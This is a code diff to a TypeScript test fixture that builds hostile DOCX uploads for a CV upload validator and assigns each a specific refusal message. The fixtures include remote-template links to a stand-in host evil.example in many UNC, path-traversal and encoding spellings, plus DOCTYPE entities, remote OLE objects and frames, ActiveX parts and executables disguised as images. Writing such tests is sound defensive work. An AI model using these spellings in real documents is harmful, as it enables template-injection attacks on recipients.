@@ -1,16 +1,20 @@
 import { uploadMessages } from '#contract/http/uploads.ts';
+import { refused } from '#server/platform/files/validation/file-errors.ts';
 import { docxParts, links, makeDocx } from './documents.ts';
 import type { HostileFile } from './hostile.ts';
 import { makeZip, type ZipEntry } from './zip.ts';
 
 const { broken, unsafe } = uploadMessages;
+const { message: link } = refused('link');
+const { message: file } = refused('embedded');
+const { message: controls } = refused('controls');
 const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
 const remote = 'http://evil.example/t.dotm';
 
 const settingsLinks = 'word/_rels/settings.xml.rels';
 
-const docx = (what: string, parts: readonly ZipEntry[], message: string = unsafe): HostileFile => ({
+const docx = (what: string, parts: readonly ZipEntry[], message: string): HostileFile => ({
   what: `a DOCX with ${what}`,
   name: 'cv.docx',
   content: () => makeDocx(parts),
@@ -40,42 +44,89 @@ const remoteLinks: readonly HostileFile[] = [
   ...[
     'file://///evil.example/t.dotm',
     '\\\\evil.example\\t.dotm',
-    'file:///C:\\Templates\\t.dotm',
+    'file://evil.example/C:/t.dotm',
+    'file:///\\\\evil.example\\t.dotm',
+    'file:///evil.example/t.dotm',
+    'file:///C:\\\\evil.example\\t.dotm',
+    'file:///C:/../../evil.example/t.dotm',
+    'file:///C:/%5C%5Cevil.example/t.dotm',
+    'file:///C:/x/http://evil.example/t.dotm',
+    'file:///C:',
   ].map((target) =>
-    docx(`a template at ${target}`, [
-      links({ type: 'attachedTemplate', target, part: 'settings' }),
-    ]),
+    docx(
+      `a template at ${target}`,
+      [links({ type: 'attachedTemplate', target, part: 'settings' })],
+      link,
+    ),
   ),
-  ...Object.entries(linkSpellings).map(([what, link]) =>
-    docx(`a remote template, with ${what}`, [{ name: settingsLinks, content: rels(link) }]),
+  docx(
+    'a picture on the sender’s drive',
+    [links({ type: 'image', target: 'file:///C:\\Pictures\\a.png' })],
+    refused('linked-picture').message,
   ),
-  docx('a remote template, in UTF-16', [
-    { name: settingsLinks, content: Buffer.from(`\ufeff${usual}`, 'utf16le') },
-  ]),
-  docx('a remote template, in big-endian UTF-16', [
-    { name: settingsLinks, content: bigEndian(`<?xml version="1.0" encoding="UTF-16"?>${usual}`) },
-  ]),
-  docx('a remote template, in UTF-7', [
-    { name: settingsLinks, content: `<?xml version="1.0" encoding="UTF-7"?>${usual}` },
-  ]),
-  docx('relationships with a document type', [
-    {
-      name: settingsLinks,
-      content: `<!DOCTYPE x [<!ENTITY e "${remote}">]>${rels('')}`,
-    },
-  ]),
-  docx('a remote template in another settings file', [
-    { name: 'word/_rels/other.xml.rels', content: usual },
-  ]),
-  docx('a remote template, with its part in capitals', [
-    { name: 'WORD/_RELS/SETTINGS.XML.RELS', content: usual },
-  ]),
-  docx('a remote object', [links({ type: 'oleObject', target: 'http://evil.example/x.html!' })]),
-  docx('a picture on another computer', [
-    links({ type: 'image', target: '\\\\evil.example\\share\\a.png' }),
-  ]),
-  docx('a remote frame', [links({ type: 'frame', target: 'https://evil.example/' })]),
-  docx('a remote part of its text', [links({ type: 'aFChunk', target: 'https://evil.example/' })]),
+  ...Object.entries(linkSpellings).map(([what, spelling]) =>
+    docx(
+      `a remote template, with ${what}`,
+      [{ name: settingsLinks, content: rels(spelling) }],
+      link,
+    ),
+  ),
+  docx(
+    'a remote template, in UTF-16',
+    [{ name: settingsLinks, content: Buffer.from(`\ufeff${usual}`, 'utf16le') }],
+    link,
+  ),
+  docx(
+    'a remote template, in big-endian UTF-16',
+    [
+      {
+        name: settingsLinks,
+        content: bigEndian(`<?xml version="1.0" encoding="UTF-16"?>${usual}`),
+      },
+    ],
+    link,
+  ),
+  docx(
+    'a remote template, in UTF-7',
+    [{ name: settingsLinks, content: `<?xml version="1.0" encoding="UTF-7"?>${usual}` }],
+    unsafe,
+  ),
+  docx(
+    'relationships with a document type',
+    [
+      {
+        name: settingsLinks,
+        content: `<!DOCTYPE x [<!ENTITY e "${remote}">]>${rels('')}`,
+      },
+    ],
+    unsafe,
+  ),
+  docx(
+    'a remote template in another settings file',
+    [{ name: 'word/_rels/other.xml.rels', content: usual }],
+    link,
+  ),
+  docx(
+    'a remote template, with its part in capitals',
+    [{ name: 'WORD/_RELS/SETTINGS.XML.RELS', content: usual }],
+    link,
+  ),
+  docx(
+    'a remote object',
+    [links({ type: 'oleObject', target: 'http://evil.example/x.html!' })],
+    file,
+  ),
+  docx(
+    'a picture on another computer',
+    [links({ type: 'image', target: '\\\\evil.example\\share\\a.png' })],
+    refused('linked-picture').message,
+  ),
+  docx('a remote frame', [links({ type: 'frame', target: 'https://evil.example/' })], link),
+  docx(
+    'a remote part of its text',
+    [links({ type: 'aFChunk', target: 'https://evil.example/' })],
+    file,
+  ),
   docx(
     'relationships that are not XML',
     [{ name: settingsLinks, content: `${rels('')}<` }],
@@ -89,17 +140,21 @@ const embeddedLink = (type: string, target: string): ZipEntry => ({
 });
 
 const embedded: readonly HostileFile[] = [
-  docx('an embedded object', [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
-  docx('an ActiveX control', [{ name: 'word/activeX/activeX1.xml', content: '<ax/>' }]),
-  docx('a program', [{ name: 'word/media/image1.png', content: Buffer.from('MZ\x90\0') }]),
-  docx('a program by its name', [{ name: 'word/media/run.exe', content: 'x' }]),
-  docx('an object under another name', [
-    { name: 'word/media/image1.emf', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') },
-    embeddedLink('image', 'media/image1.emf'),
-  ]),
-  docx('an object as a text part', [embeddedLink('oleObject', 'other/text1.xml')]),
-  docx('a control as a text part', [embeddedLink('control', 'other/text1.xml')]),
-  docx('another document inside', [embeddedLink('aFChunk', 'other/text1.rtf')]),
+  docx('an embedded object', [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }], file),
+  docx('an ActiveX control', [{ name: 'word/activeX/activeX1.xml', content: '<ax/>' }], controls),
+  docx('a program', [{ name: 'word/media/image1.png', content: Buffer.from('MZ\x90\0') }], file),
+  docx('a program by its name', [{ name: 'word/media/run.exe', content: 'x' }], file),
+  docx(
+    'an object under another name',
+    [
+      { name: 'word/media/image1.emf', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') },
+      embeddedLink('image', 'media/image1.emf'),
+    ],
+    file,
+  ),
+  docx('an object as a text part', [embeddedLink('oleObject', 'other/text1.xml')], file),
+  docx('a control as a text part', [embeddedLink('control', 'other/text1.xml')], controls),
+  docx('another document inside', [embeddedLink('aFChunk', 'other/text1.rtf')], file),
   {
     what: 'a DOCX that declares an object',
     name: 'cv.docx',
@@ -110,7 +165,7 @@ const embedded: readonly HostileFile[] = [
       const content = String(types?.content).replace('</Types>', object);
       return makeZip([{ name: '[Content_Types].xml', content }, ...others]);
     },
-    message: unsafe,
+    message: file,
   },
 ];
 
